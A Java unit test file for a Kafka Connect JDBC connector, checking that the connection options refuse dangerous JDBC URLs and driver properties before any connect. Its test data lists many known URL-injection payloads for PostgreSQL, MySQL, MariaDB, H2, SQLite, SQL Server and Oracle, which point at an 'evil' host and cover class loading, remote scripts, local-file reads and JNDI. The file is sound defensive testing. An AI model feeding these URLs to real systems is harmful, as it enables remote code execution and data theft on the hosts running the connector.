/* SPDX-License-Identifier: Apache-2.0 */
package io.levada.connect.jdbc.connection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.Map;
import org.apache.kafka.common.config.ConfigException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** URLs that make a driver load code, read files, run SQL or go elsewhere, as they are known for each: refused before any connect. */
final class UrlAttacksTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                // PostgreSQL: classes and files by property (CVE-2022-21724, CVE-2022-26520), and services.
                "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://db/x?sslfactory=a.B&sslfactoryarg=evil",
                "jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=/tmp/evil.jsp",
                "jdbc:postgresql://db/x?authenticationPluginClassName=evil",
                "jdbc:postgresql://db/x?socketFactor%79=evil",
                "jdbc:postgresql://db/x?%73ocketFactory=evil",
                "jdbc:postgresql://db/x?SocketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true&&socketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true;socketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true?socketFactory=evil",
                "jdbc:postgresql://db/x?service=evil",
                "jdbc:postgresql:///?socketFactory=evil",
                "jdbc:postgresql://db/x#&socketFactory=evil",
                "jdbc:postgresql://db,evil host/x",
                "jdbc:postgresql://me:evil@db/x",
                "JDBC:POSTGRESQL://db/x?socketFactory=evil",
                " jdbc:postgresql://db/x?socketFactory=evil",
                // MySQL and MariaDB: objects, files of ours, classes, other hosts, other forms.
                "jdbc:mysql://evil/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "jdbc:mysql://db/x?statementInterceptors=evil",
                "jdbc:mysql://db/x?detectCustomCollations=true&autoDeserialize=true",
                "jdbc:mysql://db/x?allowLoadLocalInfile=true&allowUrlInLocalInfile=true",
                "jdbc:mysql://db/x?allowLoadLocalInfileInPath=/",
                "jdbc:mysql://db/x?AllowLoadLocalInfile=true",
                "jdbc:mysql://db/x?allowLoadLocalInfil%65=true",
                "jdbc:mysql://db/x?maxAllowedPacket=655360&allowLoadLocalInfile=1",
                "jdbc:mysql://db/x?#&allowLoadLocalInfile=true",
                "jdbc:mysql://db/x?propertiesTransform=evil",
                "jdbc:mysql://db/x?socketFactory=evil",
                "jdbc:mysql://db/x?connectionLifecycleInterceptors=evil",
                "jdbc:mysql://db/x?trustCertificateKeyStoreUrl=http://evil",
                "jdbc:mysql://db/x?sessionVariables=local_infile=1",
                "jdbc:mysql://(host=db,allowLoadLocalInfile=true)/x",
                "jdbc:mysql://address=(host=db)(autoDeserialize=true)/x",
                "jdbc:mysql://[(host=db,autoDeserialize=true)]/x",
                "jdbc:mysql://db,evil/x",
                "jdbc:mysql://db:3306,(host=evil)/x",
                "jdbc:mysql://me:evil@db/x",
                "jdbc:mysql://db/x%3FautoDeserialize=true",
                "jdbc:mysql://db/x%23",
                "jdbc:mysql:replication://db,evil/x",
                "jdbc:mysql:loadbalance://db,evil/x",
                "jdbc:mysql+srv://evil/x",
                "mysqlx://db/x",
                "jdbc:mariadb://db/x?pinGlobalTxToPhysicalConnection=true&socketFactory=evil",
                "jdbc:mariadb://db/x?credentialType=evil",
                "jdbc:mariadb://db/x?allowLocalInfile=true",
                "jdbc:mariadb://db/x?initSql=evil",
                "jdbc:mariadb://db/x?serverRsaPublicKeyFile=/evil",
                "jdbc:mariadb:sequential://db,evil/x",
                "jdbc:mariadb://address=(host=evil)(type=master)/x",
                // H2: SQL at the start, and SQL that runs Java in the worker's own process.
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x",
                "jdbc:h2:~/x",
                "jdbc:h2:file:/tmp/evil",
                "jdbc:h2:zip:/tmp/evil.zip!/x",
                "jdbc:h2:nio:/tmp/evil",
                "jdbc:h2:tcp://db/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:tcp://db/x;init=evil",
                "jdbc:h2:tcp://db/x;IN\\IT=evil",
                "jdbc:h2:tcp://db/x;IFEXISTS=TRUE\\;INIT=evil",
                "jdbc:h2:tcp://db/x;SCHEMA=x\\;INIT=evil",
                "jdbc:h2:tcp://db/x;SCHEMA=PUBLIC RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:tcp://db/x;TRACE_LEVEL_FILE=4",
                "jdbc:h2:tcp://db/x;JAVA_OBJECT_SERIALIZER='evil'",
                "jdbc:h2:tcp://db/x;AUTHREALM=evil",
                "jdbc:h2:tcp://db,evil/x",
                "jdbc:h2:tcp://db/../../evil?x",
                "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE TRIGGER evil",
                // SQLite: extensions, resources from anywhere (CVE-2023-32697), parameters of file: URLs.
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite::resource:jar:http://evil/x.jar!/x.db",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:",
                "jdbc:sqlite:file:evil?mode=memory&cache=shared",
                "jdbc:sqlite:/tmp/x.db?enable_load_extension=true",
                "jdbc:sqlite:/tmp/x.db?open_mode=6",
                "jdbc:sqlite:/tmp/x.db?temp_store_directory=/evil",
                "jdbc:sqlite:/tmp/x.db?journal_mode=WAL;ATTACH 'evil'",
                "jdbc:sqlite:/tmp/x.db?synchronous=1%3BATTACH%20evil",
                "jdbc:sqlite:/tmp/x.db%3Fenable_load_extension=true",
                // SQL Server: classes, braces that hide a semicolon.
                "jdbc:sqlserver://db;socketFactoryClass=evil",
                "jdbc:sqlserver://db;trustManagerClass=evil;trustManagerConstructorArg=x",
                "jdbc:sqlserver://db;accessTokenCallbackClass=evil",
                "jdbc:sqlserver://db;applicationName={x;socketFactoryClass=evil}",
                "jdbc:sqlserver://db;applicationName={x};socketFactoryClass=evil",
                "jdbc:sqlserver://db;SOCKETFACTORYCLASS=evil",
                "jdbc:sqlserver://db; socketFactoryClass=evil",
                "jdbc:sqlserver://db\\x;y=evil",
                "jdbc:sqlserver://db;jaasConfigurationName=evil",
                "jdbc:sqlserver://;serverName=evil",
                // Oracle: directories (JNDI), descriptors, files with names, credentials.
                "jdbc:oracle:thin:@ldap://evil:389/x,cn=OracleContext",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=evil)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=x)))",
                "jdbc:oracle:thin:@tns_name?TNS_ADMIN=/evil",
                "jdbc:oracle:thin:@//db:1521/x?oracle.net.wallet_location=evil",
                "jdbc:oracle:thin:me/evil@//db:1521/x",
                "jdbc:oracle:thin:@config-file:///evil.json",
                "jdbc:oracle:thin:@config-https://evil/x",
                "jdbc:oracle:oci:@x",
                "jdbc:oracle:thin:@//db,evil/x",
                // Others, which no dialect speaks to.
                "jdbc:derby:memory:evil;create=true",
                "jdbc:hsqldb:mem:evil",
                "jdbc:db2://db:50000/x:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:modeshape:ldap://evil/x",
                "jdbc:calcite:model=inline:evil",
                "jdbc:jcr:jndi:ldap://evil/x",
                "jdbc:snowflake://x?evil",
                "jdbc:teradata://db/LOGMECH=evil",
                "jdbc:log4jdbc:mysql://db/x?autoDeserialize=true",
                "jdbc:p6spy:h2:mem:evil",
                "jdbc:tc:postgresql:9.6:///evil?TC_INITSCRIPT=file:evil",
                "jdbc:postgresql_evil://db/x",
            })
    void isRefusedBeforeAnyConnect(String url) {
        assertThatThrownBy(() -> options(url))
                .isInstanceOf(ConfigException.class)
                .message()
                .contains("connection.url")
                .doesNotContain("evil");
    }

    /** The same rules hold for properties that stand apart from the URL. */
    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db/x, socketFactory, evil",
        "jdbc:postgresql://db/x, sslfactory, evil",
        "jdbc:postgresql://db/x, loggerFile, /evil",
        "jdbc:postgresql://db/x, SSLMODE, evil",
        "jdbc:postgresql://db/x?sslmode=require, sslmode, evil",
        "jdbc:postgresql://db/x, pool.max_size, evil",
        "jdbc:mysql://db/x, allowLoadLocalInfile, evil",
        "jdbc:mariadb://db/x, socketFactory, evil",
        "jdbc:mysql://db/x, sessionVariables, evil",
        "jdbc:h2:tcp://db/x, INIT, evil",
        "jdbc:h2:tcp://db/x, SCHEMA, PUBLIC RUNSCRIPT FROM 'http://evil'",
        "jdbc:sqlite:/tmp/x.db, enable_load_extension, evil",
        "jdbc:sqlite:/tmp/x.db, journal_mode, WAL;ATTACH 'evil'",
        "jdbc:sqlserver://db, trustManagerClass, evil",
        "jdbc:sqlserver://db, applicationName, {x;socketFactoryClass=evil}",
        "jdbc:oracle:thin:@//db:1521/x, oracle.net.wallet_location, evil",
    })
    void propertyThatIsNotSafeIsRefusedByName(String url, String name, String value) {
        assertThatThrownBy(() -> options(url, Map.of(name, value)))
                .isInstanceOf(ConfigException.class)
                .message()
                .contains("connection." + name)
                .doesNotContain("evil");
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db:5432/shop?sslmode=require, PostgresDialect",
        "jdbc:mysql://db:3306/shop?sslMode=VERIFY_IDENTITY, MySqlDialect",
        "jdbc:mariadb://[::1]:3306/shop, MySqlDialect",
        "jdbc:sqlite:/var/lib/shop.db?busy_timeout=1000, SqliteDialect",
        "jdbc:sqlite:C:\\data\\shop.db, SqliteDialect",
        "jdbc:h2:tcp://db:9092/~/shop;SCHEMA=PUBLIC, H2Dialect",
        "jdbc:sqlserver://db\\main:1433;databaseName=shop;encrypt=true, SqlServerDialect",
        "jdbc:oracle:thin:@//db:1521/shop.example, OracleDialect",
        "jdbc:oracle:thin:@db:1521:SHOP, OracleDialect",
    })
    void plainUrlIsTaken(String url, String dialect) {
        assertThat(options(url).dialect().getClass().getSimpleName()).isEqualTo(dialect);
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:mysql://db/shop, PostgreSqlDatabaseDialect",
        "jdbc:postgresql://db/shop, MySqlDatabaseDialect",
    })
    void dialectOfAnotherDatabaseIsRefused(String url, String name) {
        DialectName other = java.util.stream.Stream.of(DialectName.values())
                .filter(each -> each.spelling().equals(name))
                .findFirst()
                .orElseThrow();

        assertThatThrownBy(
                        () -> new ConnectionOptions(url, other, null, null, 1, Duration.ZERO, Duration.ZERO, Map.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessageContaining("dialect.name")
                .hasMessageContaining("leave it out");
    }

    private static ConnectionOptions options(String url) {
        return options(url, Map.of());
    }

    private static ConnectionOptions options(String url, Map<String, String> driverProperties) {
        return new ConnectionOptions(url, null, null, null, 1, Duration.ZERO, Duration.ZERO, driverProperties);
    }
}
